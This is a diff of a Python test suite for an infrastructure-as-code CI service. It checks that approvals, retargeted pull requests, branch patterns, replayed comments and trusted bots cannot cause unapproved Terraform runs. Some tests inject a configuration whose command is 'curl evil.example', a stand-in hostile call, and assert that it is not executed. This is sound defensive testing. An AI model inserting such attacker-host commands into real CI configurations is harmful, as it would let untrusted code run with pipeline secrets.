@@ -22,12 +22,12 @@ from iac_ci_common.testing import MemoryCodeStore, MemorySealer, MemorySecrets, 
 from iac_ci_init.preparation import PreparationPorts, Preparer
 from iac_ci_triggers.ledger import Ledger
 from iac_ci_triggers.verification import Sender
-from iac_ci_vcs.provider import ChangedFile, ChangeKind, CommitState
+from iac_ci_vcs.provider import Account, ChangedFile, ChangeKind, CommitState, Permission
 from iac_ci_vcs.testing import MemoryReports, MemoryRepositories
 from iac_ci_vcs.testing.memory_code_host import ENGINE
 
 sys.path.insert(0, str(Path(__file__).parent))
-from event_harness import CONFIGURATION, HEAD, NEXT, REPOSITORY, SECRET, STRANGER, WRITER, Hosted
+from event_harness import BASE, CONFIGURATION, HEAD, NEXT, REPOSITORY, SECRET, STRANGER, WRITER, Hosted
 
 
 @pytest.fixture
@@ -238,7 +238,7 @@ def test_a_change_of_the_configuration_is_shown_and_not_obeyed(hosted):
 
 
 def test_a_configuration_with_problems_is_a_failure_that_everybody_sees(hosted):
-    hosted.host.files[".iac-ci.yml", "main"] = b"version: 1\njobs:\n  plan:\n    on: {command: plan}\n    order: []\n"
+    hosted.host.files[".iac-ci.yml", BASE] = b"version: 1\njobs:\n  plan:\n    on: {command: plan}\n    order: []\n"
     hosted.pull_request()
     assert hosted.jobs == []
     assert "line 5" in hosted.notice
@@ -247,7 +247,7 @@ def test_a_configuration_with_problems_is_a_failure_that_everybody_sees(hosted):
 
 def test_what_the_stack_does_not_allow_could_not_start_and_says_why(hosted):
     there = CONFIGURATION.replace(b"ssm:/iac-ci/jobs/one", b"ssm:/somebody/elses")
-    hosted.host.files[".iac-ci.yml", "main"] = there
+    hosted.host.files[".iac-ci.yml", BASE] = there
     hosted.pull_request()
     assert hosted.jobs == []
     assert "could not start" in hosted.notice
@@ -256,7 +256,7 @@ def test_what_the_stack_does_not_allow_could_not_start_and_says_why(hosted):
 
 
 def test_no_order_of_a_repository_reads_the_code_hosts_tokens(hosted):
-    hosted.host.files[".iac-ci.yml", "main"] = CONFIGURATION.replace(b"jobs/one", b"jobs/tokens/acme")
+    hosted.host.files[".iac-ci.yml", BASE] = CONFIGURATION.replace(b"jobs/one", b"jobs/tokens/acme")
     hosted.pull_request()
     assert hosted.jobs == []
     assert "could not start" in hosted.notice
@@ -405,6 +405,8 @@ def test_bitbuckets_forks_have_their_code_in_the_fork(hosted):
         Ledger(
             key=keys.pull_request_ledger("bitbucket.org/acme/infra", 7),
             approved_sha=HEAD,
+            approved_base="main",
+            approved_configuration=hashlib.sha256(CONFIGURATION).hexdigest(),
             expires_at=hosted.clock.now() + timedelta(days=1),
         )
     )
@@ -470,7 +472,7 @@ def test_only_branches_that_the_operator_names_say_what_runs(hosted):
     (connection,) = json.loads(hosted.secrets.values[parse_location("ssm:/iac-ci/iac-ci/connections")])
     named = json.dumps([connection | {"branches": ["main", "release/*"]}])
     hosted.secrets.values[parse_location("ssm:/iac-ci/iac-ci/connections")] = named
-    hosted.host.files[".iac-ci.yml", "evil"] = CONFIGURATION.replace(b"terraform plan", b"curl evil.example")
+    hosted.configure(CONFIGURATION.replace(b"terraform plan", b"curl evil.example"), "evil", "e" * 40)
     hosted.host.files[".iac-ci.yml", HEAD] = CONFIGURATION.replace(b"[main]", b"[evil]")
     hosted.change(base_branch="evil")
     hosted.pull_request()
@@ -482,3 +484,228 @@ def test_only_branches_that_the_operator_names_say_what_runs(hosted):
     hosted.pull_request("edited_base")
     hosted.pull_request("synchronize")
     assert len(hosted.jobs) == 1
+
+
+def test_an_approval_does_not_hold_after_a_retarget(hosted):
+    """Approved for main, aimed at production: production's job asks again, also if the old approval is sent again."""
+    hosted.configure(CONFIGURATION.replace(b"jobs/one", b"jobs/production"), "production", "d" * 40)
+    hosted.connect(branches=["main", "production"])
+    hosted.change(author=STRANGER)
+    hosted.pull_request()
+    hosted.comment(f"/iac-ci approve {HEAD}")
+    approval = next(
+        comment for comment in hosted.host.comments[7] if "approve" in comment.body and comment.author == WRITER
+    )
+    assert len(hosted.jobs) == 1
+    hosted.change(base_branch="production")
+    hosted.pull_request("edited", changes={"base": {"ref": {"from": "main"}}})
+    assert f"/iac-ci approve {HEAD} production" in hosted.notice
+    assert hosted.host.statuses[-1].state is CommitState.PENDING
+    hosted.tell(approval)
+    hosted.comment("/iac-ci plan")
+    hosted.comment(f"/iac-ci approve {HEAD}")
+    hosted.comment(f"/iac-ci approve {HEAD} main")
+    assert len(hosted.jobs) == 1
+    assert "was not approved" in hosted.notice
+    hosted.comment(f"/iac-ci approve {HEAD} production")
+    assert [stored.job.orders[0].secrets["TOKEN"] for stored in hosted.jobs] == [
+        "ssm:/iac-ci/jobs/one",
+        "ssm:/iac-ci/jobs/production",
+    ]
+    # It was for production: aimed at main again, the pull request is asked about again.
+    hosted.change(base_branch="main")
+    hosted.pull_request("edited", changes={"base": {"ref": {"from": "production"}}})
+    assert len(hosted.jobs) == 2
+
+
+def test_a_retargeted_pull_request_is_planned_anew(hosted):
+    hosted.configure(CONFIGURATION.replace(b"jobs/one", b"jobs/production"), "production", "d" * 40)
+    hosted.connect(branches=["main", "production"])
+    hosted.pull_request()
+    hosted.change(base_branch="production")
+    hosted.pull_request("edited", changes={"base": {"ref": {"from": "main"}}})
+    first, second = hosted.jobs
+    assert second.job.orders[0].secrets["TOKEN"] == "ssm:/iac-ci/jobs/production"
+    runs = {run.run_id: run for run in hosted.ledgers.read(first.ledger).runs}
+    assert runs[first.run_id].cancel_reason == "superseded by the base branch production"
+    assert (runs[second.run_id].base, runs[second.run_id].cancel_reason) == ("production", None)
+
+
+@pytest.mark.parametrize("by", [WRITER, STRANGER])
+def test_an_approval_and_a_plan_hold_for_the_configuration_that_would_run(hosted, by):
+    hosted.change(author=by)
+    hosted.pull_request()
+    if by is STRANGER:
+        hosted.comment(f"/iac-ci approve {HEAD}")
+    hosted.comment("/iac-ci apply app")
+    changed = CONFIGURATION.replace(b"[terraform plan]", b"[terraform plan -lock=false]")
+    hosted.configure(changed, commit="d" * 40)
+    hosted.pull_request("reopened")
+    started = [stored.job.orders[0].cmds for stored in hosted.jobs]
+    expected = [["terraform plan"], ["terraform apply"]]
+    if by is WRITER:
+        expected.append(["terraform plan -lock=false"])
+    else:
+        assert f"/iac-ci approve {HEAD}" in hosted.notice
+    assert started == expected
+    # What a command started goes on: its infrastructure must not be left half-changed.
+    assert [run.cancel_reason for run in hosted.ledgers.read(hosted.jobs[0].ledger).runs[:2]] == [
+        "superseded by a changed .iac-ci.yml",
+        None,
+    ]
+
+
+def test_a_tag_that_is_named_like_the_base_branch_is_not_read(hosted):
+    """Hosts that resolve a bare name may prefer the tag; the file is asked for at the commit of refs/heads/main."""
+    hosted.host.files[".iac-ci.yml", "main"] = CONFIGURATION.replace(b"terraform plan", b"curl evil.example")
+    hosted.pull_request()
+    hosted.comment("/iac-ci plan")
+    assert [stored.job.orders[0].cmds for stored in hosted.jobs] == [["terraform plan"]] * 2
+    del hosted.host.heads["main"]
+    hosted.comment("/iac-ci plan")
+    assert len(hosted.jobs) == 2
+
+
+@pytest.mark.parametrize(
+    ("branches", "base", "starts"),
+    [
+        (["release/*"], "release/x", True),
+        (["release/*"], "release/x/evil", False),
+        (["release/*", "!release/evil"], "release/evil", False),
+        (["release/**"], "release/x/y", True),
+        (["rel?ase"], "rel/ase", False),
+        (["[mn]ain"], "main", True),
+        (["MAIN"], "main", False),
+        (None, "main", True),
+        (None, "release/x", False),
+        (None, "refs/heads/main", False),
+    ],
+)
+def test_a_wide_pattern_of_branches_does_not_cross_a_slash(hosted, branches, base, starts):
+    hosted.connect(branches=branches)
+    hosted.configure(CONFIGURATION.replace(b"[main]", b'["**"]'), base, "d" * 40)
+    hosted.host.heads[base] = "d" * 40
+    hosted.change(base_branch=base)
+    hosted.pull_request()
+    hosted.push(base, "d" * 40)
+    assert [stored.job.pr_number for stored in hosted.jobs] == ([7, None] if starts else [])
+
+
+def test_without_branches_the_default_branch_counts_as_it_is_now(hosted):
+    hosted.host.default = "trunk"
+    hosted.pull_request()
+    assert hosted.jobs == []
+    hosted.configure(CONFIGURATION, "trunk", "d" * 40)
+    hosted.change(base_branch="trunk")
+    hosted.pull_request("edited", changes={"base": {}})
+    assert len(hosted.jobs) == 1
+
+
+@pytest.mark.parametrize(("seconds", "obeyed"), [(3600, True), (3601, False), (90 * 86_400, False), (-30, True)])
+def test_an_old_comment_is_answered_and_not_obeyed(hosted, seconds, obeyed):
+    hosted.clock.advance(90 * 86_400)
+    hosted.host.now = hosted.clock.now() - timedelta(seconds=seconds)
+    hosted.tell(hosted.host.write(7, WRITER, "/iac-ci apply app"))
+    assert len(hosted.jobs) == obeyed
+    assert obeyed or "more than an hour old" in hosted.notice
+
+
+def test_a_comment_that_arrived_in_time_is_obeyed_though_lambda_repeats_its_event_hours_later(hosted, monkeypatch):
+    def fail(*arguments, **named):
+        raise PortFailed("no", retry_is_safe=True)
+
+    with monkeypatch.context() as broken:
+        broken.setattr(hosted.host, "pull_request", fail)
+        with pytest.raises(PortFailed):
+            hosted.comment("/iac-ci apply app")
+    hosted.clock.advance(5 * 3600)
+    hosted.processor.process(hosted.invoker.triggered[-1])
+    assert len(hosted.jobs) == 1
+
+
+@pytest.mark.parametrize("text", ["/iac-ci apply app", "/iac-ci cancel", "/iac-ci plan\n/iac-ci apply app"])
+def test_no_command_runs_twice_whatever_is_sent_again(hosted, text):
+    """Also after its run left the ledger, and for another commit."""
+    hosted.comment(text)
+    comment = hosted.host.comments[7][0]
+    started = len(hosted.jobs)
+    for _ in range(60):
+        hosted.comment("/iac-ci plan")
+    newest = len(hosted.jobs)
+    hosted.change(head_sha=NEXT)
+    hosted.tell(comment)
+    hosted.clock.advance(3599)
+    hosted.tell(comment)
+    assert (started, newest, len(hosted.jobs)) == (text.count("apply") + text.count("plan"), started + 60, newest)
+    ledger = hosted.ledgers.read(keys.pull_request_ledger("github.com/acme/infra", 7))
+    assert all(run.cancel_reason is None for run in ledger.runs)
+
+
+def test_a_day_has_no_more_commands_than_the_ledger_remembers(hosted, monkeypatch):
+    monkeypatch.setattr("iac_ci_triggers.decide.MAX_COMMANDS", 3)
+    for _ in range(4):
+        hosted.comment("/iac-ci apply app")
+    assert len(hosted.jobs) == 3
+    assert "at most 3 commands a day" in hosted.notice
+    hosted.clock.advance(86_401)
+    hosted.comment("/iac-ci apply app")
+    assert len(hosted.jobs) == 4
+
+
+def test_a_command_whose_event_is_repeated_after_a_push_starts_nothing_for_the_other_commit(hosted, monkeypatch):
+    def fail(*arguments, **named):
+        raise PortFailed("no", retry_is_safe=True)
+
+    with monkeypatch.context() as broken:
+        broken.setattr(hosted.objects, "create", fail)
+        with pytest.raises(PortFailed):
+            hosted.comment("/iac-ci apply app")
+    hosted.change(head_sha=NEXT)
+    hosted.processor.process(hosted.invoker.triggered[-1])
+    assert hosted.jobs == []
+    assert "Write the command again" in hosted.notice
+
+
+BOT = Account("49699333", "dependabot[bot]")
+
+
+@pytest.mark.parametrize(
+    ("author", "is_fork", "starts"),
+    [
+        (BOT, False, True),
+        (BOT, True, False),
+        (Account("4969933", BOT.login), False, False),
+        (Account("49699333 ", BOT.login), False, False),
+    ],
+)
+def test_a_trusted_bots_pull_request_runs_without_an_approval_by_its_exact_id(hosted, author, is_fork, starts):
+    hosted.connect(repositories=[REPOSITORY], trusted_accounts=[BOT.id])
+    hosted.change(author=author, is_fork=is_fork)
+    hosted.pull_request()
+    assert len(hosted.jobs) == starts
+
+
+@pytest.mark.parametrize("permission", [Permission.NONE, Permission.WRITE, Permission.ADMIN])
+def test_a_trusted_bot_gives_no_commands(hosted, permission):
+    hosted.connect(repositories=[REPOSITORY], trusted_accounts=[BOT.id])
+    hosted.host.permissions[BOT.id] = permission
+    hosted.comment("/iac-ci apply app", BOT)
+    hosted.comment(f"/iac-ci approve {HEAD}", BOT)
+    assert hosted.jobs == []
+    assert "may not use commands" in hosted.notice
+
+
+def test_a_comment_on_gitlab_is_about_the_commit_that_stood_when_it_was_written(hosted):
+    for commit, jobs in ((NEXT, 0), (HEAD, 1)):
+        comment = hosted.host.write(7, WRITER, "/iac-ci apply app")
+        payload = {
+            "object_kind": "note",
+            "project": {"web_url": "https://gitlab.com/acme/infra"},
+            "user": {"id": 5, "username": "ann"},
+            "object_attributes": {"id": int(comment.id), "note": comment.body, "noteable_type": "MergeRequest",
+                                  "system": False, "action": "create"},
+            "merge_request": {"iid": 7, "last_commit": {"id": commit}},
+        }  # fmt: skip
+        headers = {"x-gitlab-event": "Note Hook", "x-gitlab-token": SECRET, "idempotency-key": commit}
+        hosted.deliver(Request(json.dumps(payload).encode(), headers), Sender.GITLAB)
+        assert len(hosted.jobs) == jobs
